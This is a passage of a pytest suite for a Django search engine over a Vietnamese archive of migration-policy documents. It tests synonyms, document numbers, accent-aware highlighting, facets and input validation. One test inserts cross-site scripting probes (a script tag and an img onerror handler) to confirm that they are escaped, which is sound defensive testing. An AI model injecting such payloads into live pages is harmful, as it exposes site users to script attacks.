    # A long text is cut around the other name, which is marked.
    results = api(client, q="phòng chống buôn bán người")[1]["results"]
    assert [Document.objects.get(pk=r["id"]).slug for r in results] == ["bao", "luat"]
    snippet = api(client, q="buôn bán người")[1]["results"][2]["snippet"]
    assert "Tội phạm <mark>mua</mark> <mark>bán</mark> <mark>người</mark> tăng" in snippet
    status, payload = api(client, q="Buôn bán người")
    assert payload["also_searched"] == [{"typed": "Buôn bán người", "also": ["mua bán người"]}]
    page = client.get(reverse("archive:search"), {"q": "phòng buôn bán người"}).content.decode()
    hint = re.search(r'class="muted equivalent-hint">(.*?)</p>', page, re.S)[1]
    assert "Tìm cả «mua bán người», cách gọi khác của «buôn bán người»" in html.unescape(hint)
    address = html.unescape(re.search(r'href="([^"]+)"', hint)[1])
    assert address == "/tim-kiem/?q=ph%C3%B2ng+%22bu%C3%B4n+b%C3%A1n+ng%C6%B0%E1%BB%9Di%22"
    assert "equivalent-hint" not in client.get(address).content.decode()
    # Another name's words alone are not marked: "hợp" of "hợp pháp" is not Liên hợp quốc's.
    lhq = ArticleFactory(
        slug="lhq",
        title="Hợp tác với Liên hợp quốc",
        body="Di cư hợp pháp theo Liên hợp quốc, ban hành năm 2018.",
        date=D(2018, 1, 1),
    )
    title, snippet = search.headlines(parse_query("LHQ"), [lhq.pk])[lhq.pk]
    marked = "\x02Liên\x03 \x02hợp\x03 \x02quốc\x03"
    assert title == f"Hợp tác với {marked}"
    assert f"hợp pháp theo {marked}, ban hành" in snippet
    assert slugs(client, q="người di cư bất hợp pháp") == []
    ArticleFactory(slug="tp", title="Tin", body="Người di cư trái phép.", date=D(2024, 1, 1))
    assert slugs(client, q="người di cư bất hợp pháp") == ["tp"]


def test_each_name_of_a_group_is_read_whole_with_the_others():
    """A name in two groups, or one read inside a longer one, would search the wrong others."""
    for group in synonyms.GROUPS:
        for name in group:
            others = [other for other in group if other != name]
            assert synonyms.equivalents_in(name) == [(name, others)], name
            assert synonyms.equivalents_in(f"({name.lower()}),") == [(name.lower(), others)]
    assert synonyms.equivalents_in("1614/KH-UBND mua bán") == []  # a number's part is none
    # A group once, by the first of its names typed; no name across a comma.
    assert synonyms.equivalents_in("UBND tỉnh, ubnd huyện, Ủy ban nhân dân") == [
        ("UBND", ["Ủy ban nhân dân"])
    ]
    assert synonyms.equivalents_in("buôn, bán người") == []


def test_a_number_among_words_finds_the_texts_citing_it_and_the_documents_linked(client, db):
    """ "402 Lạng Sơn" and "402 Hậu Giang" found nothing: a text holds a cited number as one
    token ("402/qd-ttg"), never the word "402", and Hậu Giang's plan carrying out 402/QĐ-TTg
    does not cite it: it is linked."""
    decision = PlanFactory(
        slug="qd-402", number="402/QĐ-TTg", title="Quyết định về di cư", date=D(2020, 3, 20)
    )
    plan = PlanFactory(
        slug="kh-hg",
        number="1614/KH-UBND",
        title="Kế hoạch về di cư",
        body="Căn cứ Luật. " * 40 + "Ủy ban nhân dân tỉnh Hậu Giang ban hành Kế hoạch.",
    )
    DocumentLink.objects.create(source=plan, target=decision, relation=Relation.IMPLEMENTS)
    ArticleFactory(
        slug="bao-ls",
        title="Lạng Sơn triển khai",
        body="Tỉnh Lạng Sơn thực hiện theo Quyết định số 402/QĐ-TTg.",
        date=D(2020, 8, 4),
    )
    ArticleFactory(
        slug="ls-100", title="Lạng Sơn họp", body="Có 100 đại biểu dự họp.", date=D(2021, 1, 5)
    )
    assert slugs(client, q="402 Lạng Sơn") == ["bao-ls"]
    assert slugs(client, q="Hậu Giang 402") == ["kh-hg"]
    # Its snippet marks the words it holds.
    snippet = api(client, q="Hậu Giang 402")[1]["results"][0]["snippet"]
    assert "tỉnh <mark>Hậu</mark> <mark>Giang</mark> ban hành" in snippet
    # The document numbered so first, then those linked to it, then the texts citing it.
    assert slugs(client, q="402 di cư") == ["qd-402", "kh-hg"]
    snippet = api(client, q="402 Lạng Sơn")[1]["results"][0]["snippet"]
    assert "<mark>Lạng</mark> <mark>Sơn</mark>" in snippet
    assert "số <mark>402/QĐ-TTg</mark>" in snippet
    # A number among words is still a word, and one up to 31 only that (dates start so).
    assert slugs(client, q="100 đại biểu") == ["ls-100"]
    assert slugs(client, q="15 Lạng Sơn") == []
    # A year among words is the year: not the documents numbered so, nor those linked to them.
    PlanFactory(slug="so-2025", number="2025/QĐ-UBND", title="Quyết định về di cư", body="")
    ArticleFactory(slug="nam-2025", title="Di cư năm 2025", body="Năm 2025 di cư tăng.")
    assert slugs(client, q="di cư 2025")[0] == "nam-2025"
    ArticleFactory(slug="ls-402", title="Lạng Sơn đón", body="Lạng Sơn đón 402 người.")
    results = api(client, q="402 Lạng Sơn")[1]["results"]
    assert (
        "đón <mark>402</mark> người"
        in results[slugs(client, q="402 Lạng Sơn").index("ls-402")]["snippet"]
    )


def test_a_place_and_a_number_find_the_place_s_plan_linked_to_that_number(client, db):
    """A plan tagged with Hậu Giang carrying out 402/QĐ-TTg, neither named in its text, is
    what "402 Hậu Giang" asks for: the place by its tag, the number by the link."""
    hau_giang = ProvinceFactory(era="63", code="93", name="Hậu Giang", slug="hau-giang")
    decision = PlanFactory(slug="qd-402", number="402/QĐ-TTg", title="Quyết định về di cư")
    plan = PlanFactory(slug="kh-hg", number="1614/KH-UBND", title="Kế hoạch", body="Kế hoạch.")
    plan.provinces.add(hau_giang)
    DocumentLink.objects.create(source=plan, target=decision, relation=Relation.IMPLEMENTS)
    PlanFactory(slug="kh-khac", number="15/KH-UBND", title="Kế hoạch", body="Khác.").provinces.add(
        hau_giang
    )
    assert slugs(client, q="402 Hậu Giang") == ["kh-hg"]
    assert slugs(client, q="Hậu Giang 402 kế hoạch") == ["kh-hg"]
    # With the number typed whole, what links to it is found too; the place's plan first.
    ca_mau = ProvinceFactory(era="63", code="96", name="Cà Mau", slug="ca-mau")
    other = PlanFactory(slug="kh-cm", number="65/KH-UBND", title="Kế hoạch", body="Kế hoạch.")
    other.provinces.add(ca_mau)
    DocumentLink.objects.create(source=other, target=decision, relation=Relation.IMPLEMENTS)
    for q in ("Hậu Giang 402/QĐ-TTg", "Hậu Giang QĐ 402"):
        assert slugs(client, q=q) == ["qd-402", "kh-hg", "kh-cm"], q


def test_a_snippet_never_ends_inside_a_number(client, db):
    """ts_headline may end a fragment at a number's first Đ, where the parser ends a token:
    "… ban hành kèm Quyết định số 402/Q"."""
    ArticleFactory(
        slug="ls",
        title="Kế hoạch",
        body="",
        summary="Kế hoạch của Ủy ban nhân dân tỉnh Lạng Sơn ban hành ngày 04/8/2020 triển khai"
        " Thỏa thuận GCM trên địa bàn tỉnh, theo Kế hoạch ban hành kèm Quyết định số"
        " 402/QĐ-TTg.",
    )
    for q in ("402", "QĐ 402"):
        snippet = api(client, q=q)[1]["results"][0]["snippet"]
        assert snippet.endswith("Quyết định số <mark>402/QĐ-TTg</mark>"), (q, snippet)


def test_a_number_below_10_is_found_however_a_text_writes_it(client, db):
    """Texts drop the zero Nghị định 30 writes (5/KH-UBND for 05/KH-UBND), a Party number
    too (5-CT/TW); a date's day or a month is not a number, and is found as typed."""
    ArticleFactory(
        slug="bai",
        title="Tỉnh sơ kết",
        body="Xin ý kiến. " * 40 + "Thực hiện Kế hoạch 5/KH-UBND và Chỉ thị 5-CT/TW.",
        date=D(2022, 1, 4),
    )
    ArticleFactory(slug="ngay", title="Hội nghị ngày 5/3/2020, tháng 2/2021", date=D(2021, 2, 3))
    for q in ("5/KH-UBND", "05/KH-UBND", "5-CT/TW", "05-CT/TW"):
        assert slugs(client, q=q) == ["bai"], q
    for q in ("5/3/2020", "2/2021"):
        assert slugs(client, q=q) == ["ngay"], q
    # The snippet shows and marks the number as the text writes it, past its first words.
    snippet = api(client, q="05/KH-UBND")[1]["results"][0]["snippet"]
    assert "<mark>5/KH-UBND</mark>" in snippet


def test_parse_query_respells_numbers_for_the_vector():
    query = parse_query("Quyết định số 402/QĐ-TTg về GCM")
    assert query.numbers == ["402/qd-ttg"]
    assert "402/qd-ttg" in query.text
    assert query.shown == "Quyết định số 402/QĐ-TTg về GCM"
    # Spaces stand for a number's separators only before abbreviations we know.
    assert parse_query("402 QĐ TTg di cư").numbers == ["402/qd-ttg"]
    for words in ("5 KH của tỉnh", "402 QĐ TTg-X"):
        assert parse_query(words).numbers == [], words


def test_the_phrase_bonus_leaves_out_the_numbers_parts():
    """A number is one token of the text: as a phrase of its parts ("402 <-> qd <-> ttg") it
    only made the ranking read each match's vector once more."""
    assert parse_query("402/QĐ-TTg").text_words == []
    assert parse_query("Kế hoạch 1614/KH-UBND Hậu Giang").text_words == [
        "Kế",
        "hoạch",
        "Hậu",
        "Giang",
    ]
    assert parse_query("QĐ 402").text_words == ["QĐ", "402"]  # no full number: words

    def ranking(q):
        return str(Document.objects.annotate(rank=search.rank_expression(parse_query(q))).query)

    assert "phraseto_tsquery" not in ranking("1614/KH-UBND")
    assert "phraseto_tsquery" in ranking("kế hoạch 1614/KH-UBND")


def test_empty_query_browses_everything_newest_first(client, corpus):
    assert slugs(client, page_size=3) == ["di-cu", "di-cu-x", "scattered"] or slugs(
        client, page_size=3
    ) == ["di-cu-x", "di-cu", "scattered"]
    status, payload = api(client)
    assert payload["count"] == 8  # the draft is not shown


def test_drafts_are_searchable_by_staff_only(client, staff, corpus):
    assert "draft" not in slugs(client, q="bản nháp")
    client.force_login(staff)
    assert slugs(client, q="bản nháp") == ["draft"]


# Highlights ----------------------------------------------------------------------------------


def test_snippet_marks_the_original_accented_words(client, corpus):
    status, payload = api(client, q="nguoi di cu", kind="article", sort="newest")
    snippets = {Document.objects.get(pk=r["id"]).slug: r["snippet"] for r in payload["results"]}
    assert snippets["di-cu"] == "Câu chuyện <mark>người</mark> <mark>di</mark> <mark>cư</mark>"
    assert snippets["di-cu-x"] == "Câu chuyện <mark>người</mark> <mark>di</mark> <mark>cũ</mark>"


def test_marks_follow_the_accents_typed_where_the_text_holds_them(client, db):
    body = (
        "Sở Ngoại vụ thành phố Cần Thơ trình bày tham luận về hoà nhập, kết quả, tồn tại, hạn"
        " chế trong năm năm qua và định hướng cho giai đoạn tới của các địa phương trong vùng"
        " đồng bằng sông Cửu Long và của cả nước. Phiên 2: Di cư lao động hướng tới cách tiếp"
        " cận bền vững."
    )
    ArticleFactory(title="Cần Thơ và cách tiếp cận mới", slug="ct", body=body)
    ArticleFactory(title="Tin can tho", slug="khong-dau", body="Bai viet ve can tho khong dau")

    def snippet(q, slug):
        status, payload = api(client, q=q)
        found = {Document.objects.get(pk=r["id"]).slug: r for r in payload["results"]}
        return found[slug]["snippet"]

    def page(q):
        return client.get(reverse("archive:search"), {"q": q}).content.decode()

    assert "<mark>Cần</mark> <mark>Thơ</mark> và cách tiếp cận mới" in page("Cần Thơ")
    # The fragment chosen for "tiếp cận" goes with its mark; the one holding the words stays.
    assert "<mark>Cần</mark> <mark>Thơ</mark>" in snippet("Cần Thơ", "ct")
    assert "cận" not in snippet("Cần Thơ", "ct") and " … " not in snippet("Cần Thơ", "ct")
    # Typed without accents, every spelling is marked; so is a text that has no other.
    assert "cách tiếp <mark>cận</mark> mới" in page("can tho")
    assert "Tin <mark>can</mark> <mark>tho</mark>" in page("Cần Thơ")
    assert "<mark>can</mark> <mark>tho</mark>" in snippet("Cần Thơ", "khong-dau")
    # Either tone placement is the word as typed.
    assert "<mark>hoà</mark> <mark>nhập</mark>" in snippet("hòa nhập", "ct")


def test_marks_follow_the_spelling_typed_in_the_whole_document(client, db):
    ArticleFactory(
        title="Phòng chống mua bán người trên địa bàn Thanh Hoá",
        slug="th",
        body="Tỉnh Thanh Hoá trở thành nơi đón nạn nhân bị mua bán trở về.",
    )
    content = client.get(reverse("archive:search"), {"q": "mua bán người"}).content.decode()
    # The title's "bàn" is another word: the snippet holds "bán".
    assert "<mark>mua</mark> <mark>bán</mark> <mark>người</mark> trên địa bàn Thanh" in content
    # The title holds the words as typed: the snippet's other spellings are not marked, and
    # its one fragment stays.
    ArticleFactory(title="Đoàn công tác Cần Thơ", slug="ct", body="Bàn về cách tiếp cận mới.")
    status, payload = api(client, q="Cần Thơ")
    assert payload["results"][0]["snippet"] == "Bàn về cách tiếp cận mới."
    status, payload = api(client, q="Thanh Hoá")
    # A query with a diacritic is typed as spelled: "Thanh" is not "thành".
    assert payload["results"][0]["snippet"] == (
        "Tỉnh <mark>Thanh</mark> <mark>Hoá</mark> trở thành nơi đón nạn nhân bị mua bán trở về"
    )


def test_page_highlights_title_and_snippet(client, corpus):
    content = client.get(reverse("archive:search"), {"q": "di cư"}).content.decode()
    assert "Người <mark>di</mark> <mark>cư</mark> trở về quê" in content


LONG_FILLER = "cán bộ tỉnh đã họp bàn " * 400  # 9,200 characters


def only_snippet(client, q, body, title="Kế hoạch dài"):
    """Return the snippet of the only result for q, a plan with this text."""
    PlanFactory(title=title, slug="dai", number="7/KH-UBND", body=body)
    status, payload = api(client, q=q)
    (result,) = payload["results"]
    return result["snippet"]


def test_a_text_without_the_words_is_shown_by_its_summary(client, db):
    """Found by its number, 402/QĐ-TTg showed its preamble («Căn cứ Luật Tổ chức Chính phủ…»),
    and a letter found by a link the first words of another plan's news."""
    preamble = "Căn cứ Luật Tổ chức Chính phủ ngày 19/6/2015 và các văn bản liên quan. " * 5
    PlanFactory(
        title="Quyết định ban hành Kế hoạch",
        number="402/QĐ-TTg",
        summary="Kế hoạch triển khai Thỏa thuận GCM gồm 5 nhiệm vụ trọng tâm.",
        body=preamble,
    )
    (result,) = api(client, q="402/QĐ-TTg")[1]["results"]
    assert result["snippet"].startswith("Kế hoạch triển khai Thỏa thuận GCM gồm 5 nhiệm vụ")
    (result,) = api(client, q="Luật Tổ chức")[1]["results"]  # words in the text: its own
    assert "<mark>Luật</mark> <mark>Tổ</mark> <mark>chức</mark>" in result["snippet"]


@pytest.mark.parametrize("q", ["núi", "NUI", "nui thôn"])
def test_long_text_snippet_comes_from_around_the_first_occurrence(client, q):
    body = f"{LONG_FILLER}thôn Núi Thành {LONG_FILLER}đỉnh NÚI cao {LONG_FILLER}"
    snippet = only_snippet(client, q, body)
    # Cut around the first occurrence (the whole text would give a second fragment, " … ",
    # around the other), between words.
    assert "<mark>Núi</mark>" in snippet
    assert "NÚI" not in snippet and " … " not in snippet
    words = set(LONG_FILLER.split()) | {"thôn", "<mark>thôn</mark>", "<mark>Núi</mark>", "Thành"}
    assert set(snippet.split()) <= words | {"…"}  # cut inside the text: said so (another test)


def test_a_snippet_says_where_it_starts_or_ends_inside_its_text(client, db):
    """ "hiệp phụ nữ Việt Nam) và Sở Ngoại vụ …" began inside "Hội Liên hiệp phụ nữ", and
    "… ban hành Kế" stopped inside a sentence, with nothing to say so."""
    sentences = [f"Câu thứ {n} nói về việc chuẩn bị hội nghị của tỉnh bạn." for n in range(40)]
    middle = " ".join([*sentences[:20], "Đoàn công tác Nghệ An tham dự.", *sentences[20:]])
    start = " ".join(["Đoàn công tác Nghệ An tham dự.", *sentences])
    whole = "Đoàn công tác Nghệ An tham dự hội nghị."
    snippets = []
    for body in (middle, start, whole):
        Document.objects.all().delete()
        snippets.append(only_snippet(client, "Nghệ An", body))
    assert snippets[0].startswith("… ") and snippets[0].endswith(" …")
    assert not snippets[1].startswith("…") and snippets[1].endswith(" …")
    assert "…" not in snippets[2]


def test_long_text_snippet_keeps_a_second_occurrence_near_the_first(client):
    body = f"{LONG_FILLER}thôn Núi Thành {LONG_FILLER[:1500]}đỉnh núi cao {LONG_FILLER}"
    snippet = only_snippet(client, "núi", body)
    assert "<mark>Núi</mark>" in snippet and "<mark>núi</mark>" in snippet
    assert " … " in snippet


def test_long_text_without_the_word_shows_its_beginning(client):
    snippet = only_snippet(client, "núi", LONG_FILLER, title="Kế hoạch về núi")  # by its title
    assert snippet == " ".join(LONG_FILLER.split()[:12])


def test_long_text_snippet_of_a_phrase_reads_the_whole_text(client):
    body = f"{LONG_FILLER}núi cao {LONG_FILLER}thôn Núi Thành {LONG_FILLER}"
    snippet = only_snippet(client, '"núi thành"', body)
    assert "<mark>Núi</mark> <mark>Thành</mark>" in snippet


def test_hostile_text_is_escaped_before_it_is_marked(client, corpus):
    PlanFactory(
        title='<script>alert("t")</script> di cư',
        slug="hostile",
        number="9/KH-UBND",
        body='<img src=x onerror="alert(1)"> di cư &lt;b&gt; đây',
    )
    content = client.get(reverse("archive:search"), {"q": "di cư", "kind": "plan"}).content.decode()
    assert "<script>alert" not in content
    assert "<img src=x" not in content
    assert (
        "&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt; <mark>di</mark> <mark>cư</mark>"
        in content
    )
    # ts_headline drops the tag itself; what remains is escaped, then marked.
    assert "<mark>di</mark> <mark>cư</mark> &amp;lt;b&amp;gt; đây" in content
    status, payload = api(client, q="di cư", kind="plan")
    hostile = next(r for r in payload["results"] if r["title"].startswith("<script>"))
    assert hostile["snippet"].endswith("<mark>di</mark> <mark>cư</mark> &amp;lt;b&amp;gt; đây")
    assert "<img" not in hostile["snippet"]


def test_browsing_shows_the_start_of_each_summary_or_body(client, corpus):
    words = [f"từ{n}" for n in range(60)]
    ArticleFactory(title="Bài dài", slug="bai-dai", summary="", body=" ".join(words))
    ArticleFactory(title="Bài có tóm tắt", slug="co-tom-tat", summary="Tóm tắt ngắn.", body="Thân")
    status, payload = api(client, kind="article", page_size="100")
    snippets = {r["title"]: r["snippet"] for r in payload["results"]}
    assert snippets["Bài dài"] == " ".join(words[:40]) + "…"
    assert snippets["Bài có tóm tắt"] == "Tóm tắt ngắn."


def test_facet_links_switch_one_value_and_keep_the_rest_in_order(client, corpus):
    response = client.get(
        reverse("archive:search"), {"q": "di cư", "kind": "plan", "year": "2020", "page": "2"}
    )
    content = response.content.decode()
    # Switching a value on or off keeps the other parameters where they were, without the page.
    assert 'href="?q=di+c%C6%B0&amp;kind=plan&amp;year=2020&amp;province=can-tho"' in content
    assert 'href="?q=di+c%C6%B0&amp;year=2020"' in content  # kind=plan switched off
    assert 'href="?q=di+c%C6%B0&amp;kind=plan"' in content  # year=2020 switched off
    assert 'href="?kind=plan&amp;year=2020"' in content  # the query removed


# Facets --------------------------------------------------------------------------------------


def facet(payload, name):
    return {item["value"]: (item["count"], item["selected"]) for item in payload["facets"][name]}


def test_facets_count_every_kind(client, corpus):
    status, payload = api(client)
    assert facet(payload, "kind") == {
        "plan": (3, False),
        "conference": (1, False),
        "article": (4, False),
    }
    assert facet(payload, "year") == {
        "2024": (2, False),
        "2023": (2, False),
        "2022": (1, False),
        "2021": (1, False),
        "2020": (2, False),
    }
    assert facet(payload, "doc_type") == {"ke-hoach": (2, False), "quyet-dinh": (1, False)}
    assert facet(payload, "objective") == {"10": (2, False)}


def test_values_of_one_facet_combine_with_or_and_facets_with_and(client, corpus):
    assert set(slugs(client, kind=["plan", "conference"])) == {
        "qd-402",
        "kh-1614",
        "kh-402",
        "hoa-binh",
    }
    assert slugs(client, kind=["plan", "conference"], year="2020", sort="oldest") == [
        "qd-402",
        "kh-1614",
    ]


def test_a_facet_is_counted_without_its_own_filter_so_a_choice_can_be_widened(client, corpus):
    status, payload = api(client, kind="plan", year="2021")
    assert payload["count"] == 1
    assert facet(payload, "kind") == {"plan": (1, True)}  # only 2021 documents, all kinds
    assert facet(payload, "year") == {
        "2021": (1, True),
        "2020": (2, False),
    }  # only plans, all years


def test_the_undated_documents_are_a_year_value_of_their_own(client, corpus):
    """Five of the demo's conferences have no date: no year value counted them, so a search
    narrowed to years lost them without a word, and nothing could list them."""
    ConferenceFactory(slug="khong-ngay", title="Diễn đàn di cư", date=None, place="Tokyo")
    status, payload = api(client)
    years = [item["value"] for item in payload["facets"]["year"]]
    assert years == ["2024", "2023", "2022", "2021", "2020", "khong-ro"]  # the undated last
    assert payload["facets"]["year"][-1]["label"] == "Chưa rõ năm"
    assert slugs(client, year="khong-ro") == ["khong-ngay"]
    assert set(slugs(client, year=["khong-ro", "2021"])) == {"khong-ngay", "kh-402"}
    status, payload = api(client, q="di cư", year="khong-ro")
    assert payload["count"] == 1 and facet(payload, "year")["khong-ro"] == (1, True)
    assert facet(payload, "kind") == {"conference": (1, False)}
    # With a period, which holds no undated document, the page says why they are not there.
    page = client.get(reverse("archive:search"), {"year": "khong-ro", "date_from": "2020"})
    hint = re.search(r'class="muted period-hint">(.*?)</p>', page.content.decode(), re.S)[1]
    assert "Tài liệu chưa rõ năm không thuộc khoảng thời gian nào." in hint
    assert html.unescape(re.search(r'href="([^"]+)"', hint)[1]) == "?year=khong-ro"
    assert (
        "period-hint"
        not in client.get(reverse("archive:search"), {"year": "khong-ro"}).content.decode()
    )
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    english = client.get(reverse("archive:search"), {"year": "khong-ro"}).content.decode()
    assert "Year unknown" in english
    assert client.get(reverse("archive:api-search"), {"year": "khong"}).status_code == 400


def test_a_selected_value_with_no_match_stays_visible(client, corpus):
    status, payload = api(client, kind="conference", q="quyết định")
    assert payload["count"] == 0
    assert facet(payload, "kind") == {"plan": (1, False), "conference": (0, True)}


def test_current_province_includes_the_units_merged_into_it(client, corpus):
    assert slugs(client, province="can-tho", sort="newest") == ["kh-402", "kh-1614"]
    status, payload = api(client)
    assert facet(payload, "province")["can-tho"] == (2, False)
    assert facet(payload, "province")["hau-giang-truoc-2025"] == (1, False)


def test_a_result_found_through_an_old_unit_says_so(client, corpus):
    """Under Cần Thơ, Hậu Giang's plan was listed with nothing to say why: «qua …», as the
    province's page marks it."""
    via = '<span class="tag tag-via" title="Tài liệu của đơn vị hành chính cũ'
    page = client.get(reverse("archive:search"), {"province": "can-tho"}).content.decode()
    results = re.findall(r'<li class="doc-item result">.*?</li>', page, re.S)
    marked = [item for item in results if via in item]
    assert len(marked) == 1 and "qua Hậu Giang (trước 2025)" in marked[0]
    for exact in ({"exact_province": "on"}, {}):  # the old unit itself: its own
        province = "can-tho" if exact else "hau-giang-truoc-2025"
        page = client.get(reverse("archive:search"), {"province": province, **exact})
        assert via not in page.content.decode()


def test_restrict_to_the_exact_unit(client, corpus):
    assert slugs(client, province="can-tho", exact_province="on") == ["kh-402"]


def test_an_old_unit_finds_its_own_documents(client, corpus):
    assert slugs(client, province="hau-giang-truoc-2025") == ["kh-1614"]
    assert slugs(client, province="phu-tho") == ["hoa-binh"]


def test_agency_objective_and_doc_type_facets(client, corpus):
    assert slugs(client, agency="ubnd-hau-giang", sort="newest") == ["kh-402", "kh-1614"]
    assert slugs(client, objective="10", sort="newest") == ["phrase", "kh-1614"]
    # Written with a zero, as /muc-tieu/01/ takes it; a number past them still refused.
    assert slugs(client, objective="010", sort="newest") == ["phrase", "kh-1614"]
    assert client.get(reverse("archive:search"), {"objective": "024"}).status_code == 400
    assert slugs(client, doc_type="quyet-dinh") == ["qd-402"]


def test_date_range_and_sorting(client, corpus):
    assert slugs(client, date_from="2021-01-01", date_to="2022-12-31", sort="oldest") == [
        "kh-402",
        "hoa-binh",
    ]
    assert slugs(client, date_from="01/01/2021", date_to="31/12/2022", sort="newest") == [
        "hoa-binh",
        "kh-402",
    ]


def test_a_period_may_be_a_month_or_a_year(client, corpus):
    """Staff often know the year or the month only: a start is its first day, an end its last."""
    assert slugs(client, date_from="2021", date_to="2022", sort="oldest") == ["kh-402", "hoa-binh"]
    assert slugs(client, date_from="7/2020", date_to="07/2020") == ["kh-1614"]  # 30/07/2020
    assert slugs(client, date_from="2020-03", date_to="2020-3") == ["qd-402"]  # 20/03/2020
    assert slugs(client, date_to="01/2021") == slugs(client, date_to="31/01/2021")
    assert slugs(client, date_from=" 2020 / 7 ", date_to="7 / 2020") == ["kh-1614"]
    for bad in ("13/2020", "00/2020", "2020-13", "1850", "31/12/1850", "31/02/2020", "2020/2021"):
        status, payload = api(client, date_from=bad)
        assert (status, payload["parameter"]) == (400, "date_from"), bad
        assert f"«{bad}» không phải một ngày" in payload["error"]
    for digits in ("٢٠٢٠", "１２/２０２０", "٣١/١٢/٢٠٢٠"):  # digits to Python, not to staff
        assert api(client, date_to=digits)[0] == 400, digits


def test_a_period_ending_before_it_starts_is_refused_not_empty(client, corpus):
    status, payload = api(client, date_from="2022", date_to="2021")
    assert (status, payload["parameter"]) == (400, "date_to")
    assert payload["error"] == "Ngày kết thúc (31/12/2021) đứng trước ngày bắt đầu (01/01/2022)."


# The JSON API and bad input -------------------------------------------------------------------


def test_api_answers_the_documented_shape(client, corpus):
    status, payload = api(client, q="1614", page_size=1)
    assert set(payload) == {"count", "page", "pages", "results", "facets"}
    assert set(payload["facets"]) == {"kind", "province", "agency", "objective", "doc_type", "year"}
    result = payload["results"][0]
    assert set(result) == {
        "kind",
        "id",
        "title",
        "url",
        "number",
        "date",
        "date_precision",
        "snippet",
        "links",
        "provinces",
        "agencies",
        "status",
    }
    assert (result["kind"], result["number"], result["date"], result["date_precision"]) == (
        "plan",
        "1614/KH-UBND",
        "2020-07-30",
        "day",
    )
    assert result["provinces"] == ["Hậu Giang (trước 2025)"]
    assert result["url"].endswith("/van-ban/kh-1614/")


def test_pagination(client, corpus):
    status, first = api(client, page_size=3)
    status, third = api(client, page_size=3, page=3)
    assert (first["count"], first["pages"], len(third["results"])) == (8, 3, 2)


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"kind": "poem"}, "kind"),
        ({"province": "atlantis"}, "province"),
        ({"agency": "nobody"}, "agency"),
        ({"objective": "99"}, "objective"),
        ({"year": "20x0"}, "year"),
        ({"date_from": "2020-13-45"}, "date_from"),
        ({"date_to": "hôm qua"}, "date_to"),
        ({"sort": "random"}, "sort"),
        ({"page_size": "101"}, "page_size"),
        ({"page_size": "-1"}, "page_size"),
        ({"page": "0"}, "page"),
        ({"page": "abc"}, "page"),
        ({"page": "50"}, "page"),
    ],
)
def test_invalid_parameters_give_400_naming_the_parameter(client, corpus, params, parameter):
    status, payload = api(client, **params)
    assert status == 400
    assert payload["parameter"] == parameter
    assert payload["error"]


@pytest.mark.parametrize("value", ["²", "2020²", "①", "٢٠٢٠"])
def test_digits_that_are_not_ascii_are_refused_not_a_crash(client, corpus, value):
    """str.isdigit() holds for "²", which int() refuses: it once gave a 500."""
    for parameter in ("year", "page", "page_size"):
        status, payload = api(client, **{parameter: value})
        assert (status, payload["parameter"]) == (400, parameter)
        assert "không phải" in payload["error"] and "int()" not in payload["error"]
    assert client.get(reverse("archive:search"), {"year": value}).status_code == 400
    assert client.get(reverse("archive:search-csv"), {"year": value}).status_code == 400


def test_numbers_of_thousands_of_digits_are_refused_not_a_crash(client, corpus):
    """int() refuses a string of 4,300 digits: "year=999…" gave a 500 on every search address,
    and "page=999…" Python's English ("Exceeds the limit…") for a message."""
    huge = "9" * 5000
    status, payload = api(client, year=huge)
    assert (status, payload["parameter"]) == (400, "year") and "không phải một năm" in payload[
        "error"
    ]
    for name in ("archive:search", "archive:search-csv"):
        assert client.get(reverse(name), {"year": huge}).status_code == 400
    status, payload = api(client, page_size=huge)
    assert (status, payload) == (400, {"error": "Tối đa 100.", "parameter": "page_size"})
    status, payload = api(client, page=huge)
    assert (status, payload["parameter"]) == (400, "page") and "Exceeds" not in payload["error"]
    # Zeros before a number change nothing.
    assert api(client, page="0" * 5000 + "1")[0] == 200
    assert api(client, year="0" * 5000 + "2020")[0] == 200
    # Nor a character reference's digits, which html.unescape reads with int().
    assert api(client, q="&#" + "1" * 5000 + ";")[0] == 200


def test_an_empty_parameter_asks_for_no_filter(client, corpus):
    """An emptied select or a hand-edited link sends "province=": it was refused as a choice
    that does not exist, in a garbled sentence."""
    everything = slugs(client, q="di cư")
    empty = {name: "" for name in ("province", "agency", "year", "objective", "doc_type", "kind")}
    assert slugs(client, q="di cư", date_from=" ", **empty) == everything
    assert client.get(reverse("archive:search"), {"q": "di cư", **empty}).status_code == 200
    # An empty value beside a real one is left out, the real one kept.
    status, payload = api(client, q="di cư", kind=["", "article"])
    assert status == 200 and {r["kind"] for r in payload["results"]} == {"article"}


def test_refusals_are_in_vietnamese_and_short(client, corpus):
    for parameter in ("sort", "kind", "province"):
        status, payload = api(client, **{parameter: "bogus"})
        assert (status, payload["error"]) == (400, "Không có lựa chọn «bogus»."), parameter
    status, payload = api(client, objective="abc")
    assert payload["error"] == "«abc» không phải một giá trị hợp lệ."
    status, payload = api(client, province="x" * 10_000)
    assert status == 400 and payload["error"].startswith("Không có lựa chọn «xxx")
    assert len(payload["error"]) <= views.ERROR_CHARS


@pytest.mark.parametrize(
    "q",
    ['"unbalanced', "-", "OR", "OR OR", "a & b | !c", "di cư\x00", "((", "'", ":*", "402/", "<>"],
)
def test_stray_operators_and_control_characters_never_fail(client, corpus, q):
    status, payload = api(client, q=q)
    assert status == 200
    assert client.get(reverse("archive:search"), {"q": q}).status_code == 200


def test_an_overlong_query_is_capped_and_says_so(client, corpus):
    status, payload = api(client, q="di cư " * 100)
    assert status == 200
    assert "cắt bớt" in payload["warnings"][0]
    assert (
        "cắt bớt" in client.get(reverse("archive:search"), {"q": "di cư " * 100}).content.decode()
    )


def test_the_page_shows_a_message_for_bad_parameters(client, corpus):
    response = client.get(
        reverse("archive:search"),
        {"q": "di cư", "province": "atlantis", "date_from": "hôm qua", "sort": "oldest"},
    )
    assert response.status_code == 400
    content = response.content.decode()
    # Each refused parameter named as the form labels it, with its message.
    assert "<strong>Tỉnh, thành phố</strong>: Không có lựa chọn «atlantis»." in content
    assert "<strong>Từ ngày</strong>: «hôm qua» không phải một ngày" in content
    # What was valid is kept, so the user mends only the rest: the words, the order asked for,
    # the date as typed.
    assert 'value="di cư"' in content
    assert '<option value="oldest" selected>' in content
    assert response.context["filterset"].form["date_from"].value() == "hôm qua"
    assert 'value="hôm qua"' in content


def test_a_refused_condition_can_be_dropped_keeping_the_rest(client, corpus):
    """A date typo emptied the page, and its one way out («Bắt đầu lại») dropped the words and
